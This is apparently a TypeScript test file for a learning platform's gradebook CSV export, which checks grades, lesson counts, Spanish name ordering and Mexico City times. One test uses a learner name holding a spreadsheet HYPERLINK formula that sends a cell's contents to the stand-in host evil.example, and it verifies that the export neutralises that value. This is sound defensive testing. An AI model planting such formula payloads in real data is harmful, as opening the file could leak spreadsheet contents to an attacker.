import { readFileSync } from 'node:fs';
import { parse as parseCsv } from 'csv-parse/sync';
import { and, eq, isNotNull, like } from 'drizzle-orm';
import { describe, expect, test } from 'vitest';
import { parse } from 'yaml';
import { lessonProgress, quizAttempts } from '../../db/schema/index.ts';
import { type Quiz, quizSchema } from '../../src/lib/content/quiz-schema.ts';
import { createSession, generateToken } from '../../src/lib/server/auth/session.ts';
import { createCohort } from '../../src/lib/server/cohorts/cohorts.ts';
import type { Db } from '../../src/lib/server/db.ts';
import { enrollInspectorOne } from '../../src/lib/server/enrollment/enroll.ts';
import { getAttempt, saveResponses, startAttempt, submitAttempt } from '../../src/lib/server/quizzes/attempts.ts';
import { getCohortGradebook } from '../../src/lib/server/quizzes/gradebook.ts';
import { gradebookCsvRows } from '../../src/lib/server/quizzes/gradebook-csv.ts';
import { buildGradebookView, gradebookModules, parseGradebookSort } from '../../src/lib/server/quizzes/gradebook-view.ts';
import { toPublicQuestion } from '../../src/lib/server/quizzes/public-view.ts';
import { writeCsv } from '../../src/lib/server/reports/csv-writer.ts';
import { createTestDb } from '../db.ts';
import { insertPerson } from '../factories.ts';

const sample = quizSchema.parse(parse(readFileSync('tests/fixtures/quizzes/sample.yaml', 'utf8')));
const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"clic")';
const PROGRAM = 'diplomado-inspeccion-federal';
/** One objective question (art-12), graded when sent: 100 or 0; the highest attempt counts. */
const objective: Quiz = {
  ...sample,
  attempts: 5,
  grading: 'highest',
  draw: [{ pool: 'basicos', count: 1 }],
  pools: [
    { ...(sample.pools[0] as Quiz['pools'][number]), questions: (sample.pools[0]?.questions ?? []).filter((q) => q.id === 'art-12') },
  ],
};
const M1 = '01-fundamentos';
const M4 = '04-subcontratacion-repse';
const QUIZZES = [
  { moduleSlug: M1, moduleNumber: 1, quiz: objective },
  { moduleSlug: M4, moduleNumber: 4, quiz: objective },
];
const CATALOG = [
  { slug: M1, lessons: [{ id: `${M1}/01-a` }, { id: `${M1}/02-b` }, { id: `${M1}/03-c` }] },
  { slug: M4, lessons: [{ id: `${M4}/01-a` }, { id: `${M4}/02-b` }] },
];

/** The CSV the route sends, parsed back: header and rows as text, as a spreadsheet would read them. */
function exportCsv(db: Db, cohortId: number, orden: string | null = null, dir: string | null = null): string[][] {
  const modules = gradebookModules(QUIZZES, CATALOG);
  const { rows } = buildGradebookView(db, getCohortGradebook(db, cohortId, QUIZZES), modules, parseGradebookSort(orden, dir, modules));
  return parseCsv(writeCsv(gradebookCsvRows(modules, rows)).replace(/^\uFEFF/, '')) as string[][];
}

function newCohort(db: Db): number {
  return createCohort(db, { name: 'G', startsOn: '2026-01-01', endsOn: '2026-12-31', instructorIds: [], actorId: null }).id;
}

function learner(db: Db, cohortId: number, fullName: string): number {
  const { id } = insertPerson(db, { fullName, roles: ['inspector'] });
  enrollInspectorOne(db, { cohortId, userId: id, actorId: null });
  return id;
}

/** An attempt answering art-12 right or wrong and nothing else, sent at `at`. */
function take(db: Db, cohortId: number, userId: number, moduleSlug: string, right: boolean, at: Date): void {
  const { attemptId } = startAttempt(db, { userId, programSlug: PROGRAM, moduleSlug, quiz: objective, cohortId, now: at });
  const slot = getAttempt(db, attemptId)?.layout.questions.find((q) => q.id === 'art-12');
  const question = objective.pools[0]?.questions.find((q) => q.id === 'art-12');
  if (!slot || question?.type !== 'single') throw new Error('art-12 expected');
  const shown = toPublicQuestion(question, slot);
  const choice = shown.type === 'single' ? (shown.options.find((o) => o.text === (right ? 'Art. 12' : 'Art. 15'))?.id ?? null) : null;
  saveResponses(db, { attemptId, userId, answers: { 'art-12': { type: 'single', choice } }, now: at });
  submitAttempt(db, { attemptId, userId, now: at });
}

function complete(db: Db, userId: number, lessonId: string, at: Date): void {
  const moduleSlug = lessonId.split('/')[0] as string;
  db.insert(lessonProgress)
    .values({ userId, programSlug: PROGRAM, moduleSlug, lessonId, openedAt: at, engagedSeconds: 600, completedAt: at })
    .run();
}

/** The module grade as stored: the best attempt's score over its maximum, 0–100 with one decimal. */
function storedGrade(db: Db, userId: number, moduleSlug: string): string {
  const attempts = db
    .select({ score: quizAttempts.score, maxScore: quizAttempts.maxScore })
    .from(quizAttempts)
    .where(and(eq(quizAttempts.userId, userId), eq(quizAttempts.moduleSlug, moduleSlug)))
    .all();
  if (attempts.length === 0) return '';
  return String(Math.round(Math.max(...attempts.map((a) => (a.score as number) / (a.maxScore as number))) * 1000) / 10);
}

function storedLessons(db: Db, userId: number, moduleSlug: string): string {
  return String(
    db
      .select({ id: lessonProgress.id })
      .from(lessonProgress)
      .where(
        and(eq(lessonProgress.userId, userId), isNotNull(lessonProgress.completedAt), like(lessonProgress.lessonId, `${moduleSlug}/%`)),
      )
      .all().length,
  );
}

describe('gradebook export', () => {
  test('a learner named with a spreadsheet formula comes out as text, and numbers stay numbers', () => {
    const db = createTestDb();
    const cohortId = newCohort(db);
    const person = insertPerson(db, { roles: ['inspector'], fullName: FORMULA }, 101);
    enrollInspectorOne(db, { cohortId, userId: person.id, actorId: null });

    const csv = writeCsv(
      gradebookCsvRows(
        gradebookModules(QUIZZES, CATALOG),
        buildGradebookView(db, getCohortGradebook(db, cohortId, QUIZZES), gradebookModules(QUIZZES, CATALOG), {
          key: 'nombre',
          dir: 'asc',
        }).rows,
      ),
    );
    const [, row] = parseCsv(csv.replace(/^\uFEFF/, '')) as string[][];
    expect(row).toEqual([`'${FORMULA}`, person.person.email, 'Puebla', '', 'no', '0', '0', '', 'no', '0', '0', '', '0', '']);
    expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
  });

  test('has the average, lessons completed per module and last visit of the page, matching the database', () => {
    const db = createTestDb();
    const cohortId = newCohort(db);
    const ana = learner(db, cohortId, 'Ángela Ñúñez Gutiérrez');
    const zoe = learner(db, cohortId, 'Zoé Ramírez Luna');
    learner(db, cohortId, 'Óscar Pérez Ibarra'); // never came: empty cells
    take(db, cohortId, ana, M1, true, new Date('2026-03-02T16:00:00Z'));
    take(db, cohortId, ana, M1, false, new Date('2026-03-03T16:00:00Z'));
    take(db, cohortId, ana, M4, false, new Date('2026-03-04T16:00:00Z'));
    complete(db, ana, `${M1}/01-a`, new Date('2026-03-01T16:00:00Z'));
    complete(db, ana, `${M1}/02-b`, new Date('2026-03-01T17:00:00Z'));
    complete(db, ana, `${M4}/01-a`, new Date('2026-03-05T01:30:00Z')); // 19:30 on March 4th in Mexico City
    complete(db, zoe, `${M4}/02-b`, new Date('2026-03-06T16:00:00Z'));
    createSession(db, generateToken(), zoe, new Date('2026-07-09T23:05:00Z')); // 17:05 in Mexico City (UTC−6 all year)

    const [header, ...rows] = exportCsv(db, cohortId);
    expect(header).toEqual([
      'nombre',
      'correo',
      'entidad',
      'm1_calificacion',
      'm1_aprobado',
      'm1_intentos',
      'm1_lecciones',
      'm4_calificacion',
      'm4_aprobado',
      'm4_intentos',
      'm4_lecciones',
      'promedio',
      'lecciones_completadas',
      'ultima_visita_hora_cdmx',
    ]);
    // Names in Spanish order, as the page lists them: Á beside A, Ó before Z.
    expect(rows.map((r) => r[0])).toEqual(['Ángela Ñúñez Gutiérrez', 'Óscar Pérez Ibarra', 'Zoé Ramírez Luna']);
    const [a, o, z] = rows as [string[], string[], string[]];
    const m1 = storedGrade(db, ana, M1);
    const m4 = storedGrade(db, ana, M4);
    expect([m1, m4]).toEqual(['100', '0']);
    expect(a.slice(3, 11)).toEqual([m1, 'sí', '2', storedLessons(db, ana, M1), m4, 'no', '1', storedLessons(db, ana, M4)]);
    expect(a.slice(5, 11)).toEqual(['2', '2', '0', 'no', '1', '1']);
    expect(a.slice(11)).toEqual(['50', '3', '2026-03-04 19:30']);
    expect(o.slice(3)).toEqual(['', 'no', '0', '0', '', 'no', '0', '0', '', '0', '']);
    expect(z.slice(10)).toEqual([storedLessons(db, zoe, M4), '', '1', '2026-07-09 17:05']);

    // The export keeps the page's order when asked for it: highest average first, nobody graded last.
    expect(exportCsv(db, cohortId, 'promedio', 'desc').map((r) => r[0])).toEqual([
      'nombre',
      'Ángela Ñúñez Gutiérrez',
      'Óscar Pérez Ibarra',
      'Zoé Ramírez Luna',
    ]);
  });
});
